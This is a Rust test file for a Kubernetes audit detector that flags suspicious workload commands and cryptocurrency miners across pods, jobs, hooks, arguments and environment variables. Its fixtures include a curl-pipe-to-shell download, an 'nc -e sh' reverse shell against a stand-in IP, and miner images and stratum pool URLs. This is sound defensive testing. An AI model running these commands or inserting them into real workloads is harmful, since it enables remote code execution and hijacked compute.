use super::*;

#[test]
fn commands_are_found_in_every_kind_of_workload() {
    for (verb, resource, also) in [
        ("create", "pods", None),
        ("create", "deployments", None),
        ("update", "statefulsets", None),
        ("patch", "replicasets", None),
        ("create", "jobs", None),
        ("create", "podtemplates", None),
        ("create", "replicationcontrollers", None),
        ("create", "daemonsets", Some("Persistence:DaemonSet 6.0")),
        ("create", "cronjobs", Some("Persistence:CronJob 6.0")),
    ] {
        let found = judge(request(verb, resource, "shop", "x").workload(app(&DOWNLOAD)));
        let expected: Vec<&str> = [Some("Execution:SuspiciousWorkloadCommand 6.0"), also]
            .into_iter()
            .flatten()
            .collect();
        assert_eq!(found, expected, "{verb} {resource}");
    }
}

#[test]
fn commands_are_found_in_every_field() {
    let plain = || container("app", "nginx", &[]);
    let mut init = container("setup", "alpine", &DOWNLOAD);
    init.role = ContainerRole::Init;
    let mut arguments = plain();
    arguments.arguments = vec!["-c".to_owned(), DOWNLOAD[2].to_owned()];
    let mut hook = plain();
    hook.hooks = vec![pair("lifecycle.postStart", &DOWNLOAD.join(" "))];
    let mut variable = plain();
    variable.environment = vec![pair("SCRIPT", DOWNLOAD[2])];
    for (container, field) in [
        (
            init,
            "requestObject.spec.template.spec.initContainers[0].command",
        ),
        (
            arguments,
            "requestObject.spec.template.spec.containers[0].args",
        ),
        (
            hook,
            "requestObject.spec.template.spec.containers[0].lifecycle.postStart",
        ),
        (
            variable,
            "requestObject.spec.template.spec.containers[0].env[name=SCRIPT].value",
        ),
    ] {
        let event = request("create", "deployments", "shop", "web")
            .requested(Facts::Workload(of([container])));
        let mut harness = Harness::<SuspiciousWorkloads>::new();
        let found = harness.audit_event(event).unwrap();
        assert_eq!(
            shown(&found),
            ["Execution:SuspiciousWorkloadCommand 6.0"],
            "{field}"
        );
        assert_eq!(
            found[0].evidence(field),
            Some("curl -s http://203.0.113.9/i.sh | sh"),
            "{field}"
        );
    }
}

#[test]
fn variables_with_file_names_are_not_commands() {
    let mut with = container("app", "velero", &[]);
    with.environment = vec![
        pair("AWS_SHARED_CREDENTIALS_FILE", "/root/.aws/credentials"),
        pair(
            "AWS_EC2_METADATA_SERVICE_ENDPOINT",
            "http://169.254.169.254",
        ),
        pair("DATABASE_URL", "postgres://db/app?pool=5"),
        pair("KUBECONFIG", "/etc/kubernetes/admin.conf"),
    ];
    assert!(
        judge(request("create", "deployments", "velero", "velero").workload(of([with]))).is_empty()
    );
}

#[test]
fn unchanged_commands_are_not_reported_again() {
    let mut harness = Harness::<SuspiciousWorkloads>::new().pod_spec(
        "deployments",
        "shop",
        "web",
        app(&DOWNLOAD),
    );
    let again = request("update", "deployments", "shop", "web").workload(app(&DOWNLOAD));
    assert!(harness.audit_event(again).unwrap().is_empty());
    let other = request("patch", "deployments", "shop", "web").workload(app(&[
        "nc",
        "203.0.113.9",
        "44",
        "-e",
        "sh",
    ]));
    let found = harness.audit_event(other).unwrap();
    assert_eq!(shown(&found), ["Execution:SuspiciousWorkloadCommand 8.0"]);
    // A service account sends the whole object, whose previous state is unknown.
    let sent_again = request("update", "deployments", "shop", "api")
        .user(ARGO)
        .workload(app(&DOWNLOAD));
    assert_eq!(
        judge(sent_again),
        ["Execution:SuspiciousWorkloadCommand 3.0"]
    );
}

#[test]
fn similar_jobs_of_a_service_account_are_reported_once() {
    let mut harness = Harness::<SuspiciousWorkloads>::new();
    let job = |name: &str| {
        request("create", "jobs", "data", name)
            .user(ETL)
            .workload(app(&DOWNLOAD))
    };
    let found = harness
        .audit_events([job("etl-1"), job("etl-2"), job("etl-3")].map(built))
        .unwrap();
    assert_eq!(shown(&found), ["Execution:SuspiciousWorkloadCommand 6.0"]);
}

#[test]
fn miners_are_found_by_image_command_and_pool() {
    for container in [
        container("c", "docker.io/metal3d/xmrig:6.21", &[]),
        container(
            "c",
            "alpine",
            &["./x", "-o", "stratum+tcp://pool.example:4444"],
        ),
        container(
            "c",
            "ghcr.example/lolminer:1.88",
            &["--algo", "ETCHASH", "--pool", "p:1010"],
        ),
    ] {
        let event = request("create", "jobs", "data", "train").workload(of([container]));
        assert_eq!(judge(event), ["Impact:CryptoMiner 8.0"]);
    }
    let mut variable = container("c", "alpine", &[]);
    variable.environment = vec![pair("POOL_URL", "stratum+ssl://pool.example:443")];
    assert_eq!(
        judge(request("create", "pods", "data", "x").workload(of([variable]))),
        ["Impact:CryptoMiner 8.0"]
    );
}
